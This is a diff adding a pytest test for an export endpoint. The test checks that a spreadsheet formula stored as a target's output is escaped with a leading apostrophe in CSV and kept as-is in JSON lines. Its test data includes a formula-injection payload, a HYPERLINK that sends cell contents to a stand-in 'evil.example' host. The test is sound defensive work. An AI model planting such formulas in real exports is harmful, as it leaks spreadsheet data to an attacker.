@@ -117,6 +117,30 @@ def test_an_export_has_every_row_in_either_form(some: World, monkeypatch: pytest
     assert {row["output"] for row in read} == {row["output"] for row in rows}
 
 
+def test_a_spreadsheet_runs_no_cell_of_a_table_and_lines_of_json_have_each_text_as_it_is(some: Some) -> None:
+    """A target's answer is whatever the target writes."""
+    member = Member(some.b, some.first + 2 * MINUTE, 1)
+    formula = '=HYPERLINK("http://evil.example/?"&A1)'
+    some.world.wiring.firings.settle(
+        [
+            Outcome(
+                member,
+                0,
+                FiringStatus.FAILED,
+                member.fire_at,
+                lateness_ms=-1,
+                http_status=500,
+                output=formula,
+            )
+        ]
+    )
+    table = some.world.client.get(EXPORT, query_string={"app": "shop", "format": "csv", "status": "failed"})
+    row = next(one for one in csv.DictReader(io.StringIO(table.text)) if one["output"].endswith("A1)"))
+    assert (row["output"], row["latenessMs"]) == (f"'{formula}", "-1")
+    lines = some.world.client.get(EXPORT, query_string={"app": "shop", "status": "failed"})
+    assert formula in [json.loads(line)["output"] for line in lines.data.splitlines()]
+
+
 def test_an_export_of_nothing_has_its_header(world: World) -> None:
     table = world.client.get(EXPORT, query_string={"app": "shop", "format": "csv"})
     assert table.data.decode().startswith("timerID,app,runTimer,")
